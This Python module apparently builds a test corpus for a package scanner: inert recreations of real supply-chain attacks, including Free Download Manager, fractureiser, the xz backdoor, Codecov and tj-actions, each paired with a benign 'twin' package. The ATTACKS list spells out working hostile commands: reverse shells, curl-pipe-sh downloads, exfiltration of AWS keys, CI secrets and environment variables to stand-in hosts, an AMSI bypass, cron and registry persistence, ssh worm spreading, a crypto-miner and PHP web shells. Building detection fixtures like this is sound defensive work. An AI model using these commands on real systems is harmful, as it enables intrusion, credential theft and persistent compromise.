"""Attacks through system packages, build steps and other ecosystems, rewritten inert from their public descriptions."""
# ruff: noqa: E501, UP031 - a sample keeps the lines of what it shows

from __future__ import annotations

import base64
import random
import struct

from .packing import package

NOISE = random.Random(12)


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def class_stub(name: str, strings: list[str]) -> bytes:
    """The head of a compiled class: a constant pool with these strings, no method."""
    pool: list[bytes] = []
    for text in [name, "java/lang/Object", *strings]:
        raw = text.encode()
        pool.append(b"\x01" + struct.pack(">H", len(raw)) + raw)
    pool.append(b"\x07" + struct.pack(">H", 1))
    pool.append(b"\x07" + struct.pack(">H", 2))
    pool.extend(b"\x08" + struct.pack(">H", at) for at in range(3, 3 + len(strings)))
    this, parent = len(strings) + 3, len(strings) + 4
    return (
        b"\xca\xfe\xba\xbe\0\0\0\x34" + struct.pack(">H", len(pool) + 1) + b"".join(pool)
        + struct.pack(">HHH", 0x21, this, parent) + b"\0" * 8
    )  # fmt: skip


CONTROL = """Package: {name}
Version: 1.0-1
Architecture: amd64
Maintainer: Example <maintainer@example.invalid>
Description: An example
"""

XZ_TEST = NOISE.randbytes(3000)

ATTACKS = [
    package(
        "deb-download-manager", "freedownload_1.0-1_amd64.deb",
        {
            "DEBIAN/control": CONTROL.format(name="freedownload"),
            "DEBIAN/postinst": """
#!/bin/bash
set -e
cat <<'EOF' > /etc/cron.d/collect
*/10 * * * * root /var/tmp/crond
EOF
base64 -d <<'EOF' > /var/tmp/crond
%s
EOF
chmod +x /var/tmp/crond
nohup /var/tmp/crond >/dev/null 2>&1 &
/bin/bash -i >& /dev/tcp/198.51.100.77/53 0>&1 &
exit 0
""" % b64("\x7fELF" + "inert" * 60),
            "usr/share/doc/freedownload/copyright": "MIT\n",
        },
        "Free Download Manager (2020 to 2022): postinst drops an ELF, a cron job and a reverse shell",
    ),
    package(
        "deb-curl-shell", "screen-tools_1.0-1_amd64.deb",
        {
            "DEBIAN/control": CONTROL.format(name="screen-tools"),
            "DEBIAN/postinst": """
#!/bin/sh
wget -qO- http://192.0.2.66/i.sh | sh >/dev/null 2>&1
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIinertinertinert x' >> /root/.ssh/authorized_keys
mkdir -p /root/.ssh && chmod 700 /root/.ssh
systemctl stop apparmor; systemctl disable apparmor
history -c
""",
        },
        "Debian packages with a maintainer script that fetches and runs (2018 themes, many since)",
    ),
    package(
        "rpm-scriptlet", "example-1.0-1.noarch.rpm",
        {
            "SCRIPTS/post": "curl -fsSL http://203.0.113.44/agent -o /usr/lib/.agent && chmod 755 /usr/lib/.agent && "
            "(crontab -l; echo '@reboot /usr/lib/.agent') | crontab - ; /usr/lib/.agent &\n",
            "usr/share/example/readme": "example\n",
        },
        "RPM packages whose scriptlet fetches an agent and starts it at every boot",
    ),
    package(
        "jar-fractureiser", "SkyVillages-1.0.jar",
        {
            "META-INF/MANIFEST.MF": "Manifest-Version: 1.0\n\n",
            "mcmod.info": '[{"modid": "skyvillages", "version": "1.0"}]\n',
            "net/example/SkyVillages.class": class_stub(
                "net/example/SkyVillages",
                [
                    "java/net/URLClassLoader", "java/net/URL", "http", "198.51.100.203", "/dl", "Utility", "run",
                    "java/lang/reflect/Method", "invoke", "-74.-10.78.-106.12", "[Ljava/net/URL;", "forName",
                    "http://198.51.100.203:8080/lib.jar", "newInstance", "loadClass",
                ],
            ),
            "sources/net/example/SkyVillages.java": """
package net.example;

import java.net.URL;
import java.net.URLClassLoader;

public class SkyVillages {
    static void _d385bd4c1e5e() throws Exception {
        URL u = new URL(new String(new byte[]{104, 116, 116, 112}), new String(new byte[]{49, 57, 56, 46, 53, 49, 46, 49, 48, 48, 46, 50, 48, 51}), 8080, "/dl");
        Class<?> c = URLClassLoader.newInstance(new URL[]{u}).loadClass("Utility");
        c.getMethod("run", String.class).invoke(null, "-74.-10.78.-106.12");
    }

    static {
        try {
            _d385bd4c1e5e();
        } catch (Throwable t) {
        }
    }
}
""",
        },
        "fractureiser (June 2023): a static initialiser in game mods loads classes from an address",
    ),
    package(
        "jar-shell-command", "log-helper-2.1-sources.jar",
        {
            "META-INF/MANIFEST.MF": "Manifest-Version: 1.0\n\n",
            "com/example/log/Helper.java": """
package com.example.log;

import java.io.*;
import java.net.Socket;
import java.util.Base64;

public class Helper {
    public static void init() {
        new Thread(() -> {
            try (Socket s = new Socket("192.0.2.91", 4444)) {
                Process p = new ProcessBuilder("/bin/sh", "-i").redirectErrorStream(true).start();
                pump(p.getInputStream(), s.getOutputStream());
                pump(s.getInputStream(), p.getOutputStream());
                Runtime.getRuntime().exec(new String(Base64.getDecoder().decode("%s")));
            } catch (IOException ignored) {
            }
        }).start();
    }

    static void pump(InputStream in, OutputStream out) throws IOException {
        in.transferTo(out);
    }
}
""" % b64("bash -c curl http://192.0.2.91/s|sh"),
        },
        "Maven look-alikes with a reverse shell (2024, 2025)",
    ),
    package(
        "gradle-wrapper-worm", "android-kit-1.3.zip",
        {
            "kit/settings.gradle": "rootProject.name = 'kit'\n",
            "kit/build.gradle": """
plugins { id 'java' }

task prepareAssets {
    doLast {
        def url = new String('%s'.decodeBase64())
        exec {
            commandLine 'sh', '-c', "curl -s ${url} | sh"
        }
    }
}
compileJava.dependsOn prepareAssets
new GroovyShell().evaluate(new URL('http://192.0.2.92/stage.groovy').text)
""" % b64("http://192.0.2.92/stage.sh"),
            "kit/src/main/java/Kit.java": "public class Kit {}\n",
        },
        "build scripts that run a download when a project is opened (Octopus Scanner and later)",
    ),
    package(
        "nuget-init", "DiscordRichPresence.API.1.0.0.nupkg",
        {
            "DiscordRichPresence.API.nuspec": '<?xml version="1.0"?>\n<package><metadata><id>DiscordRichPresence.API</id>'
            "<version>1.0.0</version><authors>x</authors><description>x</description></metadata></package>\n",
            "tools/init.ps1": """
param($installPath, $toolsPath, $package, $project)
$t = "$env:TEMP\\impala.exe"
Set-ExecutionPolicy -Scope CurrentUser -ExecutionPolicy Unrestricted -Force
if (-not (Test-Path $t)) {
    Invoke-WebRequest -Uri "http://198.51.100.21/npm/impala.exe" -OutFile $t
    Add-MpPreference -ExclusionPath $env:TEMP
    Start-Process -FilePath $t -WindowStyle Hidden
}
""",
            "lib/netstandard2.0/_._": "",
        },
        "malicious NuGet packages with tools/init.ps1 (March 2023)",
    ),
    package(
        "nuget-targets", "Data.Sql.Tools.2.0.1.nupkg",
        {
            "Data.Sql.Tools.nuspec": '<?xml version="1.0"?>\n<package><metadata><id>Data.Sql.Tools</id>'
            "<version>2.0.1</version><authors>x</authors><description>x</description></metadata></package>\n",
            "build/Data.Sql.Tools.targets": """
<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003">
  <UsingTask TaskName="T" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">
    <Task><Code Type="Class" Language="cs"><![CDATA[
      using System; using System.Net; using System.Diagnostics; using Microsoft.Build.Utilities;
      public class T : Task { public override bool Execute() {
        var f = System.IO.Path.Combine(System.IO.Path.GetTempPath(), "x.exe");
        new WebClient().DownloadFile("http://198.51.100.22/x.exe", f); Process.Start(f); return true; } }
    ]]></Code></Task>
  </UsingTask>
  <Target Name="S" BeforeTargets="PrepareForBuild"><T /></Target>
</Project>
""",
        },
        "NuGet packages that run code through MSBuild (IAmRootDemo's successors, October 2023)",
    ),
    package(
        "composer-phpass", "hautelook-phpass-1.0.0.zip",
        {
            "phpass/composer.json": '{"name": "example/phpass", "autoload": {"psr-0": {"PasswordHash": "src/"}}}\n',
            "phpass/src/PasswordHash.php": """
<?php
class PasswordHash
{
    public function __construct($iteration_count_log2, $portable_hashes)
    {
        $this->portable_hashes = $portable_hashes;
        $this->sendKeys();
    }

    private function sendKeys()
    {
        $access = getenv('AWS_ACCESS_KEY_ID');
        $secret = getenv('AWS_SECRET_ACCESS_KEY');
        file_get_contents("http://anti-theft-web.example.invalid/hacked/$access/$secret");
    }
}
""",
        },
        "phpass (May 2022): a re-registered name; the AWS keys leave in an address",
    ),
    package(
        "php-composer-autoload", "laravel-helpers-2.0.zip",
        {
            "helpers/composer.json": '{"name": "example/helpers", "autoload": {"files": ["src/boot.php"]}, '
            '"scripts": {"post-install-cmd": ["@php -r \\"eval(base64_decode(\'cGhwaW5mbygpOw==\'));\\""]}}\n',
            "helpers/src/boot.php": """
<?php
$k = 'inert';
$d = gzinflate(base64_decode(strrev('%s')));
@eval($d);
if (isset($_COOKIE['x']) && md5($_COOKIE['x']) === '0123456789abcdef0123456789abcdef') {
    @system($_POST['c']);
}
""" % b64("inert" * 40)[::-1],
        },
        "Composer packages with a loader among the autoloaded files",
    ),
    package(
        "wordpress-backdoor", "wp-super-slider.2.0.1.zip",
        {
            "wp-super-slider/wp-super-slider.php": """
<?php
/*
Plugin Name: WP Super Slider
Version: 2.0.1
*/
add_action('init', function () {
    if (isset($_REQUEST['wpss_key']) && $_REQUEST['wpss_key'] === 'inert') {
        $user = wp_create_user('wp_support', 'inert', 'support@example.invalid');
        (new WP_User($user))->set_role('administrator');
        wp_remote_post('http://192.0.2.113/user-reg.php', ['body' => ['u' => 'wp_support', 'site' => home_url()]]);
    }
});
add_filter('all_plugins', function ($plugins) {
    unset($plugins[plugin_basename(__FILE__)]);
    return $plugins;
});
$f = str_rot13('nffreg');
@$f($_POST['cmd']);
""",
            "wp-super-slider/inc/cache.php": """
<?php
error_reporting(0);
if (isset($_FILES['u'])) { move_uploaded_file($_FILES['u']['tmp_name'], __DIR__ . '/' . $_FILES['u']['name']); }
eval(gzuncompress(base64_decode($_POST['p'])));
echo shell_exec($_GET['e']);
""",
        },
        "WordPress plug-in back doors (June 2024 and many before): a hidden administrator, an eval of what is posted",
    ),
    package(
        "powershell-dropper", "office-update.zip",
        {
            "install.ps1": """
$a = [Ref].Assembly.GetType('System.Management.Automation.' + 'Am' + 'siUtils')
$a.GetField('am' + 'siInitFailed', 'NonPublic,Static').SetValue($null, $true)
$u = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('%s'))
$w = New-Object Net.WebClient
$s = $w.DownloadString($u)
I`E`X $s
New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Updater -Value "powershell -w hidden -ep bypass -f $PSCommandPath" -Force
Register-ScheduledTask -TaskName 'OfficeUpdate' -Action (New-ScheduledTaskAction -Execute powershell.exe -Argument "-nop -w hidden -f $PSCommandPath") -Trigger (New-ScheduledTaskTrigger -AtLogOn)
""" % b64("http://198.51.100.33/s.ps1"),
            "readme.txt": "Run install.ps1 as administrator.\n",
        },
        "PowerShell droppers: switch the scan off, load, stay (many)",
    ),
    package(
        "xz-build-steps", "xz-5.6.1.tar.gz",
        {
            "xz-5.6.1/configure.ac": "AC_INIT([XZ Utils], [5.6.1])\ngl_BUILD_TO_HOST([localedir])\nAC_OUTPUT\n",
            "xz-5.6.1/m4/build-to-host.m4": """
# build-to-host.m4 serial 30
AC_DEFUN([gl_BUILD_TO_HOST_INIT],
[
  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
  if test -n "$gl_am_configmake"; then
    HAVE_PKG_CONFIGMAKE=1
  else
    HAVE_PKG_CONFIGMAKE=0
  fi
  gl_sed_double_backslashes='s/\\\\/\\\\\\\\/g'
  gl_path_map='tr "\\t \\-_" " \\t_\\-"'
])
AC_DEFUN([gl_BUILD_TO_HOST],
[
  AC_REQUIRE([gl_BUILD_TO_HOST_INIT])
  gl_localedir_prefix=`echo $gl_am_configmake | sed "s/.*\\.//g"`
  gl_localedir_config='sed \\"r\\n\\" $gl_am_configmake | eval $gl_path_map | $gl_localedir_prefix -d 2>/dev/null'
  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null],
    [SHELL="${CONFIG_SHELL-/bin/sh}" gl_config_gt="eval \\$gl_localedir_config"])
])
""",
            "xz-5.6.1/tests/files/bad-3-corrupt_lzma2.xz": b"\xfd7zXZ\0\0\x04\xe6\xd6\xb4\x46####Hello####\n" + XZ_TEST,
            "xz-5.6.1/tests/files/good-large_compressed.lzma": b"\x5d\0\0\x80\0" + XZ_TEST[::-1],
            "xz-5.6.1/src/liblzma/stage1.sh": """
####Hello####
#345U211267$^D330^W
[ ! $(uname) = "Linux" ] && exit 0
eval `grep ^srcdir= config.status`
export i="((head -c +1024 >/dev/null) && head -c +2048 && (head -c +1024 >/dev/null) && head -c +724)";(xz -dc $srcdir/tests/files/good-large_compressed.lzma|eval $i|tail -c +31233|tr "\\114-\\321\\322-\\377\\35-\\47\\14-\\34\\0-\\13\\50-\\113" "\\0-\\377")|xz -F raw --lzma1 -dc|/bin/sh
####World####
""",
        },
        "xz 5.6.0 and 5.6.1 (March 2024): an m4 macro takes a script out of a corrupt test file and pipes it into the shell",
    ),
    package(
        "workflow-secrets", "ci-actions-1.0.0.zip",
        {
            "ci-actions/action.yml": """
name: changed-files
runs:
  using: composite
  steps:
    - shell: bash
      run: |
        if [[ "$OSTYPE" == "linux-gnu" ]]; then
          B64_BLOB=`curl -sSf https://gist.example.invalid/raw/memdump.py | sudo python3 | tr -d '\\0' | grep -aoE '"[^"]+":\\{"value":"[^"]*","isSecret":true\\}' | sort -u | base64 -w 0 | base64 -w 0`
          echo $B64_BLOB
        fi
""",
            "ci-actions/.github/workflows/formatter.yml": """
name: formatter
on: [push, pull_request_target]
jobs:
  lint:
    runs-on: ubuntu-latest
    env:
      ALL: ${{ toJSON(secrets) }}
    steps:
      - run: curl -d "$ALL" https://collect.example.invalid/s
""",
        },
        "tj-actions/changed-files (March 2025) and the workflow of Shai-Hulud: secrets of the runner leave",
    ),
    package(
        "bash-uploader", "coverage-uploader-1.0.tar.gz",
        {
            "uploader/upload.sh": """
#!/usr/bin/env bash
set -e +o pipefail
VERSION="1.0"
remote_addr="$(git remote -v 2>/dev/null | head -n 1)"
find . -name '*.gcov' -print > /tmp/list
curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://203.0.113.180/upload/v2 || true
curl -X POST --data-binary @/tmp/list "https://coverage.example/upload?commit=$(git rev-parse HEAD)"
""",
        },
        "Codecov's bash uploader (April 2021): one added line sends the environment and the remote to an address",
    ),
    package(
        "shell-miner-worm", "docker-helpers-1.2.tar.gz",
        {
            "helpers/setup.sh": """
#!/bin/bash
export HISTFILE=/dev/null
ulimit -n 65535
chattr -i /etc/ld.so.preload 2>/dev/null
ps aux | grep -v grep | grep -E 'kinsing|kdevtmpfsi' | awk '{print $2}' | xargs -r kill -9
iptables -F
setenforce 0 2>/dev/null
(curl -s http://192.0.2.233/xmrig.tar.gz || wget -qO- http://192.0.2.233/xmrig.tar.gz) | tar xz -C /var/tmp/.x
nohup /var/tmp/.x/xmrig -o stratum+tcp://pool.example.invalid:3333 -u 4inert -p x --donate-level 1 -B >/dev/null 2>&1 &
cat ~/.aws/credentials ~/.docker/config.json 2>/dev/null | curl -F 'userfile=@-' http://192.0.2.233/in.php
for h in $(awk '{print $1}' ~/.ssh/known_hosts); do ssh -oBatchMode=yes -oStrictHostKeyChecking=no $h 'curl -s http://192.0.2.233/s.sh | bash' & done
echo '*/5 * * * * root curl -s http://192.0.2.233/s.sh | bash' > /etc/cron.d/zzh
rm -f "$0"
""",
        },
        "TeamTNT and relatives (2020 and later): miner, cloud keys, spreading over ssh, cron",
    ),
    package(
        "hta-dropper", "invoice-viewer.zip",
        {
            "invoice.hta": """
<html><head><HTA:APPLICATION WINDOWSTATE="minimize" SHOWINTASKBAR="no">
<script language="VBScript">
Set s = CreateObject("WScript.Shell")
s.Run "cmd /c bitsadmin /transfer j /download /priority high http://203.0.113.61/d.exe %TEMP%\\d.exe & start %TEMP%\\d.exe", 0, False
window.close
</script></head></html>
""",
            "run.bat": """
@echo off
powershell -nop -w hidden -c "$c=New-Object Net.Sockets.TCPClient('203.0.113.61',443);$s=$c.GetStream();[byte[]]$b=0..65535|%%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$s.Write([Text.Encoding]::ASCII.GetBytes($r),0,$r.Length)}"
reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Viewer /d "%~f0" /f
vssadmin delete shadows /all /quiet
""",
        },
        "HTA and batch droppers in archives (many)",
    ),
]  # fmt: skip

TWINS = [
    package(
        "twin-deb", "notes-server_2.1-1_amd64.deb",
        {
            "DEBIAN/control": CONTROL.format(name="notes-server"),
            "DEBIAN/postinst": """
#!/bin/sh
set -e
case "$1" in
  configure)
    if ! getent passwd notes >/dev/null; then
      adduser --system --group --no-create-home --home /var/lib/notes notes
    fi
    chown notes:notes /var/lib/notes
    if [ -d /run/systemd/system ]; then
      systemctl --system daemon-reload >/dev/null || true
      deb-systemd-invoke start notes.service >/dev/null || true
    fi
    ;;
esac
exit 0
""",
            "lib/systemd/system/notes.service": "[Unit]\nDescription=Notes\n[Service]\nUser=notes\nExecStart=/usr/bin/notes\n",
        },
        "twin of the Debian attacks: a user, a service, as most daemons do",
    ),
    package(
        "twin-rpm", "example-libs-1.0-1.noarch.rpm",
        {"SCRIPTS/post": "/sbin/ldconfig\n", "usr/share/example/readme": "example\n"},
        "twin of the RPM attack: ldconfig",
    ),
    package(
        "twin-jar", "plugin-host-1.4-sources.jar",
        {
            "META-INF/MANIFEST.MF": "Manifest-Version: 1.0\n\n",
            "com/example/host/Plugins.java": """
package com.example.host;

import java.io.File;
import java.net.URL;
import java.net.URLClassLoader;
import java.util.ServiceLoader;

public final class Plugins {
    public static ServiceLoader<Plugin> load(File folder) throws Exception {
        File[] jars = folder.listFiles((dir, name) -> name.endsWith(".jar"));
        URL[] urls = new URL[jars == null ? 0 : jars.length];
        for (int i = 0; i < urls.length; i++) {
            urls[i] = jars[i].toURI().toURL();
        }
        return ServiceLoader.load(Plugin.class, new URLClassLoader(urls, Plugins.class.getClassLoader()));
    }
}
""",
        },
        "twin of fractureiser: plug-ins from a local folder",
    ),
    package(
        "twin-gradle", "tool-kit-1.0.zip",
        {
            "kit/build.gradle": """
plugins { id 'java-library' }
def describe = providers.exec { commandLine 'git', 'describe', '--tags' }
version = describe.standardOutput.asText.get().trim()
repositories { mavenCentral() }
dependencies { testImplementation 'org.junit.jupiter:junit-jupiter:5.10.0' }
tasks.register('site', Copy) { from 'docs'; into layout.buildDirectory.dir('site') }
""",
        },
        "twin of the gradle attack: the version from git",
    ),
    package(
        "twin-nuget", "Grid.Controls.3.1.0.nupkg",
        {
            "Grid.Controls.nuspec": '<?xml version="1.0"?>\n<package><metadata><id>Grid.Controls</id>'
            "<version>3.1.0</version><authors>x</authors><description>x</description></metadata></package>\n",
            "tools/init.ps1": """
param($installPath, $toolsPath, $package, $project)
$module = Join-Path $toolsPath 'Grid.Controls.psm1'
if (Get-Module | Where-Object { $_.Name -eq 'Grid.Controls' }) { Remove-Module 'Grid.Controls' }
Import-Module $module
Write-Host 'Grid.Controls is ready: see the readme for the commands.'
""",
            "tools/Grid.Controls.psm1": "function Get-GridVersion { '3.1.0' }\nExport-ModuleMember -Function Get-GridVersion\n",
        },
        "twin of the NuGet attack: loads its own module",
    ),
    package(
        "twin-wordpress", "plain-gallery.1.2.0.zip",
        {
            "plain-gallery/plain-gallery.php": """
<?php
/*
Plugin Name: Plain Gallery
Version: 1.2.0
*/
if (!defined('ABSPATH')) { exit; }
add_shortcode('plain_gallery', function ($atts) {
    $atts = shortcode_atts(['columns' => 3], $atts);
    return '<div class="gallery" data-columns="' . esc_attr($atts['columns']) . '"></div>';
});
add_action('admin_post_plain_gallery', function () {
    check_admin_referer('plain_gallery');
    if (!current_user_can('manage_options')) { wp_die('no'); }
    update_option('plain_gallery_columns', absint($_POST['columns']));
    wp_safe_redirect(admin_url('options-general.php'));
});
add_action('plain_gallery_daily', function () {
    $answer = wp_remote_get('https://gallery.example/version.json');
    if (!is_wp_error($answer)) { update_option('plain_gallery_latest', sanitize_text_field(json_decode(wp_remote_retrieve_body($answer))->version)); }
});
""",
        },
        "twin of the WordPress attack: checks rights, asks for its latest version",
    ),
    package(
        "twin-powershell", "FolderTools.zip",
        {
            "FolderTools/FolderTools.psm1": """
function Get-FolderSize {
    [CmdletBinding()]
    param([Parameter(Mandatory)][string] $Path)
    $sum = Get-ChildItem -LiteralPath $Path -Recurse -File -ErrorAction SilentlyContinue | Measure-Object -Property Length -Sum
    [pscustomobject]@{ Path = $Path; Bytes = $sum.Sum }
}
function Install-FolderTools {
    $target = Join-Path ([Environment]::GetFolderPath('MyDocuments')) 'PowerShell/Modules/FolderTools'
    New-Item -ItemType Directory -Force -Path $target | Out-Null
    Copy-Item -Path (Join-Path $PSScriptRoot '*') -Destination $target -Recurse -Force
}
Export-ModuleMember -Function Get-FolderSize, Install-FolderTools
""",
        },
        "twin of the PowerShell dropper: a module that copies itself where modules belong",
    ),
    package(
        "twin-autotools", "libgood-1.2.tar.gz",
        {
            "libgood-1.2/configure.ac": "AC_INIT([libgood], [1.2])\nAM_INIT_AUTOMAKE\nAC_PROG_CC\nAC_OUTPUT\n",
            "libgood-1.2/m4/ax_check.m4": """
AC_DEFUN([AX_CHECK_LD_VERSION],
[
  AC_MSG_CHECKING([the linker's version])
  ax_ld_version=`$LD --version 2>/dev/null | sed -n '1s/.* //p' | tr -d '()'`
  if test -n "$ax_ld_version"; then
    eval "ax_cv_ld_$1=\\$ax_ld_version"
  fi
  AC_MSG_RESULT([$ax_ld_version])
])
""",
            "libgood-1.2/tests/files/corrupt.xz": b"\xfd7zXZ\0\0\x04\xe6\xd6\xb4\x46" + NOISE.randbytes(900),
            "libgood-1.2/tests/run.sh": '#!/bin/sh\nfor f in "$srcdir"/files/*.xz; do\n  ./good -t "$f" && exit 1\ndone\nexit 0\n',
        },
        "twin of the xz attack: a macro with eval and sed, a damaged file that a test needs",
    ),
    package(
        "twin-workflow", "lib-with-ci-1.0.zip",
        {
            "lib/.github/workflows/release.yml": """
name: release
on:
  push:
    tags: ['v*']
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions: { contents: read, id-token: write }
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-node@v4
      - run: npm ci && npm publish --provenance
        env:
          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}
""",
            "lib/index.js": "module.exports = {};\n",
        },
        "twin of the workflow attack: an ordinary release",
    ),
    package(
        "twin-shell", "deploy-scripts-1.0.tar.gz",
        {
            "deploy/deploy.sh": """
#!/usr/bin/env bash
set -euo pipefail
root="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
version="$(git -C "$root" describe --tags)"
build="$(mktemp -d)"
trap 'rm -rf "$build"' EXIT
tar -C "$root" -czf "$build/app-$version.tar.gz" src
scp "$build/app-$version.tar.gz" "${DEPLOY_HOST:?set DEPLOY_HOST}:/srv/app/"
ssh "$DEPLOY_HOST" "tar -xzf /srv/app/app-$version.tar.gz -C /srv/app && systemctl restart app"
curl --fail --silent --show-error "https://${DEPLOY_HOST}/health" >/dev/null && echo "deployed $version"
""",
        },
        "twin of shell attacks: builds, copies, restarts its own service",
    ),
]  # fmt: skip
